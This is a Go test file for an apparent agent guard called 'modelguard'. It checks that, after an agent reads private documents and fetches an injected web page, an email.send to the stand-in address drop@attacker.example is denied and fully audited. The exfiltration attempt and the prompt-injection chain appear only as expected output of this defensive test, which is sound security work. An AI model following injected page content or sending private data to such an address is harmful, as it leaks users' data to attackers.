package main

import (
	"bytes"
	"strings"
	"testing"
)

// TestExfiltration: the send that follows a private read and an injected page
// is denied with the reason, the tool does not run, and the audit log shows
// the whole chain.
func TestExfiltration(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	if err := run(&out, t.TempDir()); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"email.send drop@attacker.example -> modelguard: call to email.send denied (forbidden): session had seen: private, untrusted",
		"messages sent: 0",
		"call-1 docs.read allowed by reads; output labelled private",
		"call-2 web.fetch allowed by reads; output labelled untrusted",
		"call-3 email.send denied (forbidden) by no-exfiltration: forbid rule no-exfiltration matched: session had seen: private, untrusted",
		"session chat-7 had seen: private, untrusted (after 2 calls)",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("output lacks %q:\n%s", want, out.String())
		}
	}
}
